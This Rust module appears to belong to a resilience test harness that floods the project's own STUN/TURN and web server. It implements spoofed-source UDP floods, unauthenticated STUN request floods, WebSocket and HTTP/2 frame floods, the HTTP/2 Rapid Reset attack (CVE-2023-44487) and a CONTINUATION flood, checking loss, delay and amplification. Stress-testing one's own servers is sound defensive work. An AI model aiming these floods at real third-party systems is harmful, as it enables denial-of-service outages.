//! Floods: packets of spoofed sources, frames, streams.

use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::thread;
use std::time::{Duration, Instant};

use columba_stun::Method;
use quinn_udp::{Transmit, UdpSockRef, UdpSocketState};

use super::{Attack, Promise, Report, Watched, attacker, for_so_long};
use crate::arena::Server;
use crate::wire::h2;
use crate::wire::turn::{Turn, unauthenticated};
use crate::wire::websocket::{PING, WebSocket, frame};

/// The time for which a flood lasts.
pub(super) const FLOOD: Duration = Duration::from_secs(6);

/// Spoofed packets a second.
const RATE: u64 = 20_000;

/// Of a flow beside a flood on a busy machine.
pub(super) const FLOW: Promise =
    Promise { loss: 2.0, delay: Duration::from_millis(500), amplification: f64::INFINITY };

pub(super) const ATTACKS: &[Attack] = &[
    Attack::new("garbage", garbage).beside(Watched::Flow, FLOW).short(),
    Attack::new("spoofed-binding", |server| spoofed(server, Method::BINDING))
        .beside(Watched::Member, Promise { amplification: 1.0, ..Promise::SERVED })
        .short(),
    Attack::new("spoofed-allocate", |server| spoofed(server, Method::ALLOCATE))
        .beside(Watched::Member, Promise { amplification: 1.0, ..Promise::SERVED }),
    Attack::new("acks", |server| frames(server, |_| frame(1, br#"{"type":"ack","seq":0}"#).repeat(500)))
        .beside(Watched::Flow, FLOW),
    Attack::new("ping-frames", |server| frames(server, |_| frame(PING, &[b'x'; 120]).repeat(500)))
        .beside(Watched::Flow, FLOW),
    Attack::new("h2-frames", h2_frames).beside(Watched::Flow, FLOW),
    Attack::new("rapid-reset", rapid_reset).short(),
    Attack::new("continuation", continuation).short(),
];

/// Sends datagrams from 65,536 networks at a rate; the answers are counted. Returns the bytes sent
/// and received.
pub(super) fn flood(
    server: SocketAddr,
    mut datagram: impl FnMut(u64) -> Vec<u8>,
) -> Result<(u64, u64), String> {
    let fail = |error: std::io::Error| format!("the flood cannot be sent: {error}");
    let socket = UdpSocket::bind(SocketAddr::new(Ipv4Addr::UNSPECIFIED.into(), 0)).map_err(fail)?;
    let state = UdpSocketState::new(UdpSockRef::from(&socket)).map_err(fail)?;
    socket.set_nonblocking(true).map_err(fail)?;
    let (mut bytes_in, mut bytes_out) = (0, 0);
    let mut buffer = [0; 2000];
    let start = Instant::now();
    let mut number = 0;
    while start.elapsed() < FLOOD {
        let due = start.elapsed().as_micros() as u64 * RATE / 1_000_000;
        if number >= due {
            thread::sleep(Duration::from_micros(200));
        }
        while number < due {
            // A multiplication by an odd number visits every network once.
            let network = (number as u16).wrapping_mul(40_503);
            let contents = datagram(number);
            let source = attacker(network, 7);
            let transmit = Transmit {
                destination: server,
                ecn: None,
                contents: &contents,
                segment_size: None,
                src_ip: Some(source),
            };
            if state.try_send(UdpSockRef::from(&socket), &transmit).is_ok() {
                bytes_in += contents.len() as u64;
            }
            number += 1;
        }
        while let Ok(length) = socket.recv(&mut buffer) {
            bytes_out += length as u64;
        }
    }
    let end = Instant::now();
    while end.elapsed() < Duration::from_millis(300) {
        match socket.recv(&mut buffer) {
            Ok(length) => bytes_out += length as u64,
            Err(_) => thread::sleep(Duration::from_millis(5)),
        }
    }
    Ok((bytes_in, bytes_out))
}

/// Datagrams that are nothing at all.
fn garbage(server: &Server<'_>) -> Result<Report, String> {
    let (bytes_in, bytes_out) = flood(server.stun(), |number| {
        let mut state = number.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
        let mut bytes = Vec::with_capacity(104);
        for _ in 0..13 {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            bytes.extend(state.to_be_bytes());
        }
        bytes
    })?;
    Ok(Report { bytes_in, bytes_out, note: format!("{RATE} a second"), ..Report::default() })
}

/// Requests that are answered without authentication. Meanwhile a client that is new makes an
/// allocation.
fn spoofed(server: &Server<'_>, method: Method) -> Result<Report, String> {
    let stun = server.stun();
    let newcomer = thread::spawn(move || {
        // In the middle of the flood.
        thread::sleep(FLOOD / 3);
        let mut client = Turn::udp(attacker(60_000, 200), stun, "newcomer")?;
        let allocated = client.allocate()?;
        let transmissions = client.transmissions;
        let _ = client.release();
        Ok::<_, std::io::Error>((allocated, transmissions))
    });
    let (bytes_in, bytes_out) = flood(stun, |number| unauthenticated(method, number))?;
    let mut report = Report { bytes_in, bytes_out, ..Report::default() };
    match newcomer.join() {
        Ok(Ok((Ok(_), transmissions))) => {
            report.note = format!("{RATE} a second; a new client needs {transmissions} transmissions");
        }
        outcome => report.promise(false, format!("a new client is not served: {outcome:?}")),
    }
    Ok(report)
}

/// Twenty members send frames as fast as they are taken; `block` has those of one member.
pub(super) fn frames(server: &Server<'_>, block: impl Fn(u8) -> Vec<u8>) -> Result<Report, String> {
    let mut senders = Vec::new();
    for n in 0..20u8 {
        let fail = |error: std::io::Error| format!("the members cannot join: {error}");
        let mut socket = WebSocket::open(attacker(14, n + 1), server.web()).map_err(fail)?;
        socket.ask(r#"{"type":"create"}"#).map_err(fail)?;
        let mut reader = socket.stream.tcp().try_clone().map_err(fail)?;
        thread::spawn(move || {
            let mut buffer = [0; 65_536];
            while reader.read(&mut buffer).is_ok_and(|length| length > 0) {}
        });
        let block = block(n);
        senders.push(thread::spawn(move || {
            let start = Instant::now();
            let mut sent = 0;
            let _ = socket.stream.tcp().set_write_timeout(Some(Duration::from_millis(500)));
            while start.elapsed() < FLOOD {
                match socket.stream.write(&block) {
                    Ok(length) => sent += length as u64,
                    Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {}
                    Err(_) => break,
                }
            }
            sent
        }));
    }
    let bytes_in: u64 = senders.into_iter().map(|sender| sender.join().unwrap_or_default()).sum();
    let rate = bytes_in as f64 / FLOOD.as_secs_f64() / 1e6;
    Ok(Report { bytes_in, note: format!("{rate:.1} MB/s taken"), ..Report::default() })
}

/// Twenty connections send frames of HTTP/2 that ask for nothing, or for an answer each, as fast as
/// they are taken: PING, SETTINGS, WINDOW_UPDATE, PRIORITY, and frames of no known kind.
fn h2_frames(server: &Server<'_>) -> Result<Report, String> {
    let kinds: [(u8, &[u8]); 5] =
        [(6, &[7; 8]), (h2::SETTINGS, &[]), (8, &[0, 0, 0, 1]), (2, &[0, 0, 0, 0, 9]), (0xb, &[0; 100])];
    let mut senders = Vec::new();
    for n in 0..20u8 {
        let (kind, payload) = kinds[usize::from(n) % kinds.len()];
        // Priorities are of streams, all else is of the connection.
        let block = h2::frame(kind, 0, if kind == 2 { 7 } else { 0 }, payload).repeat(1000);
        let web = server.web();
        senders.push(thread::spawn(move || {
            let (start, mut sent) = (Instant::now(), 0u64);
            while start.elapsed() < FLOOD {
                let Ok(mut stream) = h2::connect(attacker(17, n + 1), web, 65_535) else { continue };
                let Ok(mut reader) = stream.tcp().try_clone() else { continue };
                thread::spawn(move || {
                    let mut buffer = [0; 65_536];
                    while reader.read(&mut buffer).is_ok_and(|length| length > 0) {}
                });
                let _ = stream.tcp().set_write_timeout(Some(Duration::from_millis(500)));
                let mut at = 0;
                while start.elapsed() < FLOOD {
                    match stream.write(&block[at..]) {
                        Ok(length) => (at, sent) = ((at + length) % block.len(), sent + length as u64),
                        Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {}
                        Err(_) => break,
                    }
                }
                let _ = stream.tcp().shutdown(std::net::Shutdown::Both);
            }
            sent
        }));
    }
    let bytes_in: u64 = senders.into_iter().map(|sender| sender.join().unwrap_or_default()).sum();
    let rate = bytes_in as f64 / FLOOD.as_secs_f64() / 1e6;
    Ok(Report { bytes_in, note: format!("{rate:.1} MB/s taken"), ..Report::default() })
}

/// Streams that are opened and reset at once (CVE-2023-44487).
fn rapid_reset(server: &Server<'_>) -> Result<Report, String> {
    let mut report = Report::default();
    let block = h2::request("GET", "/healthz", server.web(), &[]);
    let mut connections = 0;
    for_so_long(FLOOD, |_| {
        let Ok(mut stream) = h2::connect(attacker(15, 1), server.web(), 65_535) else { return };
        connections += 1;
        for first in (0..20_000u32).step_by(100) {
            let bytes: Vec<u8> = (first..first + 100)
                .flat_map(|n| {
                    let id = 1 + 2 * n;
                    let mut bytes = h2::frame(h2::HEADERS, h2::END_STREAM | h2::END_HEADERS, id, &block);
                    bytes.extend(h2::frame(h2::RST_STREAM, 0, id, &8u32.to_be_bytes()));
                    bytes
                })
                .collect();
            if stream.write_all(&bytes).is_err() {
                return;
            }
            report.bytes_in += bytes.len() as u64;
        }
    });
    report.note = format!("{connections} connections");
    Ok(report)
}

/// A header block that never ends.
fn continuation(server: &Server<'_>) -> Result<Report, String> {
    let mut report = Report::default();
    let field = h2::field("x-long", &"y".repeat(8000));
    let mut connections = 0;
    for_so_long(FLOOD, |_| {
        let Ok(mut stream) = h2::connect(attacker(16, 1), server.web(), 65_535) else { return };
        connections += 1;
        let block = h2::request("GET", "/healthz", server.web(), &[]);
        let _ = stream.write_all(&h2::frame(h2::HEADERS, h2::END_STREAM, 1, &block));
        for _ in 0..10_000 {
            let bytes = h2::frame(h2::CONTINUATION, 0, 1, &field);
            if stream.write_all(&bytes).is_err() {
                return;
            }
            report.bytes_in += bytes.len() as u64;
        }
    });
    report.note = format!("{connections} connections");
    Ok(report)
}
